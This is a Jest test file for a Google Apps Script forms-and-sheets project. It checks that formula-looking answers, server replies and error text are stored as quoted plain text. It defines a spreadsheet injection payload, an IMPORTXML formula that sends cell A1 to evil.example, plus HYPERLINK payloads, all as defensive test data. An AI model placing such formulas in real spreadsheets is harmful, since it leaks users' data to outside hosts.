/**
 * Spreadsheet formula injection: text from a form answer, the server or an error message
 * that Sheets would parse as a formula is written as text (leading apostrophe).
 */
import { buatFormulir } from '../../apps-script/src/forms';
import { keepText, spreadsheet } from '../../apps-script/src/gas';
import { cobaUlangAntrian } from '../../apps-script/src/retry';
import { onFormSubmit } from '../../apps-script/src/submit';
import { validateSpreadsheet } from '../../apps-script/src/validate';
import type { FakeForm } from './fakes/forms';
import type { FakeSheet } from './fakes/spreadsheet';
import { jakarta } from './fakes/world';
import { pegawaiRows, useWorld } from './helpers';

const world = useWorld((w) => {
  w.spreadsheet.addSheet('Pegawai', pegawaiRows());
});

const EVIL = '=IMPORTXML("https://evil.example/?"&A1,"//x")';

function form(key: string): FakeForm {
  const ids = JSON.parse(world().scriptProps.getProperty('BANGKOM_FORMS') ?? '{}') as Record<string, string>;
  const f = world().forms.get(ids[key] ?? '');
  if (!f) throw new Error(`no form ${key}`);
  return f;
}

function cell(sheet: string, row: number, header: string): unknown {
  const values = world().spreadsheet.sheet(sheet)?.dump() ?? [];
  return values[row - 1]?.[(values[0] ?? []).map(String).indexOf(header)];
}

function table(sheet: string): Record<string, unknown>[] {
  const values = world().spreadsheet.sheet(sheet)?.dump() ?? [];
  const header = (values[0] ?? []).map(String);
  return values.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

/** every formula in the workbook, as "sheet!row:col formula" */
function formulas(): string[] {
  return world().spreadsheet.sheets.flatMap((s: FakeSheet) =>
    [...s.formulas].map(([at, f]) => `${s.name}!${at} ${f}`),
  );
}

describe('keepText', () => {
  it('quotes text starting with = + - @ (after spaces) and numeric text; leaves other values alone', () => {
    expect(keepText(EVIL)).toBe(`'${EVIL}`);
    expect(keepText('+A1')).toBe("'+A1");
    expect(keepText('-A1*2')).toBe("'-A1*2");
    expect(keepText('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(keepText('  =1+1')).toBe("'  =1+1");
    expect(keepText('199001152015032001')).toBe("'199001152015032001");
    expect(keepText('Dinas Kesehatan')).toBe('Dinas Kesehatan');
    expect(keepText('a=b')).toBe('a=b');
    expect(keepText("'=already text")).toBe("'=already text");
    expect(keepText(42)).toBe(42);
    expect(keepText('')).toBe('');
  });
});

describe('the fake spreadsheet, like Sheets', () => {
  it('parses formula-looking text into a formula, and keeps quoted text as plain text', () => {
    const s = world().spreadsheet.addSheet('Uji');
    s.self.getRange(1, 1, 1, 4).setValues([[EVIL, `'${EVIL}`, '-A1', "'-A1"]]);
    expect(s.isFormula(1, 1)).toBe(true);
    expect(s.self.getRange(1, 1).getFormula()).toBe(EVIL);
    expect(s.isFormula(1, 3)).toBe(true);
    expect(s.isFormula(1, 2)).toBe(false);
    expect(s.isFormula(1, 4)).toBe(false);
    // the apostrophe only marks text: it is not part of the value
    expect(s.self.getRange(1, 2).getValue()).toBe(EVIL);
    expect(s.self.getRange(1, 4).getValue()).toBe('-A1');
    // overwriting a formula with quoted text leaves no formula behind
    s.self.getRange(1, 1).setValue(keepText(EVIL));
    expect(s.isFormula(1, 1)).toBe(false);
  });
});

describe('answers that look like formulas', () => {
  beforeEach(() => {
    buatFormulir(); // no units configured: Unit Layanan of the SKM form is free text
  });

  it('an anonymous SKM answer is stored as text in SKM, and no cell anywhere becomes a formula', () => {
    onFormSubmit(
      form('skm').submit(
        { 'Unit Layanan': EVIL, 'U1. Persyaratan pelayanan': '3 – Sesuai' },
        jakarta(2026, 8, 5, 11),
      ),
    );
    expect(cell('SKM', 2, 'Unit Layanan')).toBe(EVIL);
    expect(cell('Respons SKM', 2, 'Status')).toBe('Terkirim');
    expect(world().fetch.bodies('ingestResponse')[0]?.values).toMatchObject({ 'Unit Layanan': EVIL });
    expect(formulas()).toEqual([]);
  });

  it('server and error text written to Antrian, Status and Pesan stays text', () => {
    // a failing server whose answer looks like a formula
    world().fetch.handler = () => ({ code: 503, body: '=HYPERLINK("https://evil.example","x")' });
    onFormSubmit(
      form('skm').submit(
        { 'Unit Layanan': '-Dinas Kesehatan', 'U1. Persyaratan pelayanan': '3 – Sesuai' },
        jakarta(2026, 8, 5, 11),
      ),
    );
    expect(cell('SKM', 2, 'Unit Layanan')).toBe('-Dinas Kesehatan');
    expect(cell('Respons SKM', 2, 'Status')).toBe('Dalam Antrian');
    expect(String(cell('Respons SKM', 2, 'Pesan'))).toContain('=HYPERLINK');
    expect(String(cell('Antrian', 2, 'Galat Terakhir'))).toContain('=HYPERLINK');

    // text already in the sheets that looks like a formula survives their rewrite as text
    const antrian = world().spreadsheet.sheet('Antrian');
    const respons = world().spreadsheet.sheet('Respons SKM');
    if (!antrian || !respons) throw new Error('sheets missing');
    const keterangan = (antrian.dump()[0] ?? []).indexOf('Keterangan') + 1;
    antrian.write(2, keterangan, "'=1+1"); // a note staff typed as text
    const pesan = (respons.dump()[0] ?? []).indexOf('Pesan') + 1;
    respons.write(3, pesan, "'=2*3"); // another response row's Pesan, e.g. typed by staff
    respons.write(3, pesan - 2, 'x'); // its ID Respons

    world().fetch.handler = () => ({ code: 503, body: '+HYPERLINK("https://evil.example")' });
    cobaUlangAntrian(); // fails again: Antrian is rewritten
    expect(String(cell('Antrian', 2, 'Galat Terakhir'))).toContain('+HYPERLINK');
    expect(cell('Antrian', 2, 'Keterangan')).toBe('=1+1');
    expect(formulas()).toEqual([]);
    world().fetch.handler = () => ({ code: 200, body: '{"ok":true}' });
    jest.useFakeTimers({ now: Date.now() + 3 * 86_400_000, doNotFake: ['nextTick', 'setImmediate'] });
    try {
      cobaUlangAntrian(); // sent: Status and Pesan of every response row are rewritten
    } finally {
      jest.useRealTimers();
    }
    expect(cell('Respons SKM', 2, 'Status')).toBe('Terkirim');
    expect(cell('Respons SKM', 3, 'Pesan')).toBe('=2*3');
    expect(formulas()).toEqual([]);
  });
});

describe('a re-submission that leaves a cell blank (upsertRow)', () => {
  beforeEach(() => {
    buatFormulir();
  });

  it('keeps the earlier formula-looking answer as text, and every other kept cell as it was', () => {
    const rsvp = (alasan: string, at: Date) =>
      onFormSubmit(
        form('kehadiran').submit(
          { 'ID Sesi': 'S-2030-01', NIP: '199001152015032001', Kehadiran: 'Tidak Hadir', Alasan: alasan },
          at,
        ),
      );
    rsvp(EVIL, jakarta(2026, 12, 1, 10));
    expect(formulas()).toEqual([]);
    // staff add a column of their own, with a phone number kept as text
    const sheet = world().spreadsheet.sheet('Konfirmasi Kehadiran');
    const width = sheet?.dump()[0]?.length ?? 0;
    sheet?.write(1, width + 1, 'Catatan Staf');
    sheet?.write(2, width + 1, "'081234567890");
    // the same Sesi/NIP again, Alasan blank: the row is rewritten with the stored Alasan
    rsvp('', jakarta(2026, 12, 1, 11));
    const rows = table('Konfirmasi Kehadiran').filter((r) => r.NIP !== '');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'ID Sesi': 'S-2030-01',
      NIP: '199001152015032001',
      Alasan: EVIL,
      'Catatan Staf': '081234567890',
    });
    expect(rows[0]?.Waktu).toEqual(jakarta(2026, 12, 1, 11));
    expect(formulas()).toEqual([]);
  });
});

describe('answers Sheets would convert, through the submit path', () => {
  beforeEach(() => {
    buatFormulir();
  });

  it('a reason of "50%", "TRUE" or "1/2" stays the text the respondent typed, also when rewritten', () => {
    const answers = ['50%', 'TRUE', '1/2'];
    answers.forEach((alasan, i) => {
      onFormSubmit(
        form('kehadiran').submit(
          {
            'ID Sesi': `S-2030-0${i + 1}`,
            NIP: '199001152015032001',
            Kehadiran: 'Tidak Hadir',
            Alasan: alasan,
          },
          jakarta(2026, 12, 1, 10 + i),
        ),
      );
    });
    // a re-submission rewrites the first row from what getValues gives back
    onFormSubmit(
      form('kehadiran').submit(
        { 'ID Sesi': 'S-2030-01', NIP: '199001152015032001', Kehadiran: 'Hadir', Alasan: '' },
        jakarta(2026, 12, 2, 10),
      ),
    );
    const rows = table('Konfirmasi Kehadiran').filter((r) => r.NIP !== '');
    expect(rows.map((r) => r.Alasan)).toEqual(answers);
  });
});

describe('Status Validasi', () => {
  it('lists an invalid formula-looking value as text (validate.ts uses keepText)', () => {
    const rows = pegawaiRows();
    const nip = (rows[0] ?? []).indexOf('NIP');
    (rows[1] as unknown[])[nip] = '=1+1'; // text in the sheet, invalid as a NIP
    world().spreadsheet.sheet('Pegawai')?.load(rows);
    const { errors } = validateSpreadsheet(spreadsheet());
    expect(errors.some((e) => e.value === '=1+1')).toBe(true);
    const listed = table('Status Validasi').map((r) => r.Nilai);
    expect(listed).toContain('=1+1');
    expect(formulas()).toEqual([]);
  });
});

describe('answers Sheets would convert', () => {
  const CONVERTED = ['50%', 'TRUE', 'false', '1/2', '2026-04-01', '01/04/2026', '12-3'];

  /** amounts, times and dates with a month name (English or Indonesian) */
  const MORE = ['Rp 1.000', '$5', '10:30', '1 Jan 2026', '17 Agustus 2026', '1-Okt-26', 'Jan 1, 2026'];

  it('the fake converts them as Sheets does when written unquoted', () => {
    const s = world().spreadsheet.addSheet('Uji');
    const all = [...CONVERTED, ...MORE];
    s.self.getRange(1, 1, 1, all.length).setValues([all]);
    const [row] = s.self.getRange(1, 1, 1, all.length).getValues();
    expect(row?.slice(0, 3)).toEqual([0.5, true, false]);
    for (const v of row?.slice(3, CONVERTED.length) ?? []) expect(v).toBeInstanceOf(Date);
    expect(row?.slice(CONVERTED.length, CONVERTED.length + 2)).toEqual([1000, 5]);
    const dates = (row?.slice(CONVERTED.length + 2) ?? []) as Date[];
    for (const v of dates) expect(v).toBeInstanceOf(Date);
    // 17 Agustus 2026, midnight in Jakarta
    expect(dates[2]?.toISOString()).toBe('2026-08-16T17:00:00.000Z');
  });

  it('keepText keeps them text', () => {
    const s = world().spreadsheet.addSheet('Uji');
    const all = [...CONVERTED, ...MORE];
    s.self.getRange(1, 1, 1, all.length).setValues([all.map(keepText)]);
    expect(s.self.getRange(1, 1, 1, all.length).getValues()[0]).toEqual(all);
    for (const plain of ['Dinas Kesehatan', 'Sangat baik', 'Jan', 'true story', 'Bab Satu'])
      expect(keepText(plain)).toBe(plain);
  });
});
